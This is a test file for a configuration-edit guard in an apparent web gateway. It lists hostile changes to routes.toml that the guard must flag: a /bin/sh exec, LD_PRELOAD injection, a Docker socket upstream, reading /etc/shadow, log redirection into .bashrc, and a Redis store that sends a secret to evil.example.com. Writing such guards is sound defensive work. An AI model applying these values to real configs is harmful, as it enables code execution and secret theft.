import { describe, expect, test } from 'bun:test'
import { readFileSync } from 'node:fs'
import { guardedFindings } from '../../../src/server/editor/guarded-keys.ts'

const BEFORE = `[sessions]
key = "\${file:/run/key}"
[providers.id]
client_secret = "\${SECRET}"
[tls.acme.dns]
exec = ["/usr/bin/dns", "--zone"]
[[routes]]
host = "a.example.com"
files = "/srv/www"
[[routes]]
host = "b.example.com"
upstream = "unix:/run/app.sock"
`

const linesOf = (after: string) => guardedFindings('routes.toml', BEFORE, after).map(({ line }) => line)

describe('what a page may not change', () => {
  test('is nothing of what was there, moved or taken out, nor what stays within the gate', () => {
    expect(linesOf(BEFORE)).toEqual([])
    expect(linesOf(`[log]\nrequests = "stderr"\n[portals.home]\ntitle = "Home"\nrequests = true\n`)).toEqual([])
    expect(linesOf('[[routes]]\nhost = "c.example.com"\nfiles = "/srv/www"\nallow = ["user"]\n')).toEqual([])
    expect(linesOf('[providers.other]\nclient_secret = "written anew"\n')).toEqual([])
    expect(linesOf('[[routes]]\nupstream = "http://127.0.0.1:8080"\n')).toEqual([])
  })

  test.each([
    ['a program', '[tls.acme.dns]\nexec = "/bin/sh"'],
    ['its arguments', '[tls.acme.dns]\nexec = ["/usr/bin/dns", "--zone", "-x"]'],
    ['its environment', '[tls.acme.dns]\nenv.LD_PRELOAD = "/tmp/x.so"'],
    ['a program of an inline table', '[tls]\nacme = { dns = { exec = ["/bin/sh", "-c", "id"] } }'],
    ['a socket', '[[routes]]\nupstream = "unix:/run/docker.sock"'],
    ['a socket of the store', '[sessions]\nstore = "redis+unix:///run/valkey.sock"'],
    ['a socket of several', '[[routes]]\nupstream = { to = ["http://a", "UNIX:/run/docker.sock"] }'],
    ['a folder', '[[routes]]\nfiles = "/etc"'],
    ['an outgoing proxy', '[server]\noutgoing = { proxy = "http://evil.example.com:3128" }'],
    ['a folder in a table', '[[routes]]\nfiles = { folder = "/etc" }'],
    ['a log', '[log]\nevents = "/srv/other/.bashrc"'],
    ['a log of requests', '[log]\nrequests = "/srv/other/.bashrc"'],
    ['a database', '[sessions]\nstore = "sqlite:/srv/other/x"'],
    ['a file of secrets', '[[routes]]\nrequest_headers.set = { X = "${file:/etc/shadow}" }'],
    ['the environment', '[[routes]]\nrespond = { body = "${SECRET}" }'],
    ['a part of it', '[sessions]\nstore = "redis://:${SECRET}@evil.example.com"'],
    ['a secret under another key', '[[routes]]\nrequest_headers.set = { X = "${SECRET}" }'],
    ['a key', '[[routes]]\nupstream = { to = "https://a", tls = { key = "/etc/gate-key.pem" } }'],
    ['a key of ours', '[[tls.certificates]]\nkey = "/etc/gate-key.pem"'],
  ])('is %s', (_, after) => {
    expect(linesOf(after)).toEqual([2])
  })

  test('quotes nothing of it', () => {
    const found = guardedFindings('routes.toml', BEFORE, '[tls.acme.dns]\nenv.TOKEN = "planted"\n')
    expect(found).toHaveLength(1)
    expect(JSON.stringify(found)).not.toContain('planted')
  })

  test('is every key that takes a file or a folder', () => {
    const reference = readFileSync(new URL('../../../docs/keys.md', import.meta.url), 'utf8')
    const missed: string[] = []
    let count = 0
    for (const [, title = '', body = ''] of reference.matchAll(/^## `([^`]+)`\n([\s\S]*?)(?=^## |$(?![\s\S]))/gm)) {
      for (const [, key = ''] of body.matchAll(/^\| `([^`]+)` \| [^|]*\b(?:file|folder|a path)\b[^|]*\|/gm)) {
        count++
        const header = /^\[/.test(title) ? title.replace('NAME', 'one') : ''
        if (linesOf(`${header}\n${key} = "/planted"\n`).length === 0) missed.push(`${title} ${key}`)
      }
    }
    expect(count).toBeGreaterThan(15)
    expect(missed).toEqual([])
  })
})
